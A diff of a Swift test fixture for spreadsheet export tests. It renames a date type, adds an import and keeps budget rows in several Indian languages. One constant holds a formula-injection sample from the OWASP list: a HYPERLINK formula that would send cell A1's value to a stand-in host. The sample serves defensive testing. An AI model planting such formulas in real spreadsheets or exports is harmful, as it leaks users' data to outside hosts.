@@ -1,10 +1,11 @@
+import ICUKit
 import Workbook
 
 /// One workbook that covers everything the LibreOffice and archive tests check: Indic text,
 /// formula-looking text, XML-special and illegal characters, dates, every number style, live
 /// totals and a formula whose cached value LibreOffice must recompute.
 enum Fixture {
-    static func date(_ y: Int, _ m: Int, _ d: Int) -> DayDate { DayDate(year: y, month: m, day: d)! }
+    static func date(_ y: Int, _ m: Int, _ d: Int) -> CivilDate { CivilDate(year: y, month: m, day: d)! }
 
     /// Text that would run as a formula if it were typed into a cell (OWASP CSV injection list).
     static let injection = #"=HYPERLINK("http://example.com/?x="&A1,"click")"#
@@ -16,7 +17,7 @@ enum Fixture {
     static let specialRead = "A&B <b>\"quoted\" 'single' _x0041_ tab\tend"
 
     /// Budget sheet rows: segment, message, start, end, audience, budget (share formula added below).
-    static let lines: [(String, String, DayDate, DayDate, Double, Double)] = [
+    static let lines: [(String, String, CivilDate, CivilDate, Double, Double)] = [
         ("Chennai · ta", tamil, date(2026, 10, 20), date(2026, 11, 8), 1_234_567, 12_345_678.5),
         ("Kolkata · bn", bengali, date(2026, 10, 10), date(2026, 10, 20), 250_000, 250_000.25),
         ("Lucknow · ur", urdu, date(2026, 3, 1), date(2026, 3, 21), 99_999, 99_999.99),
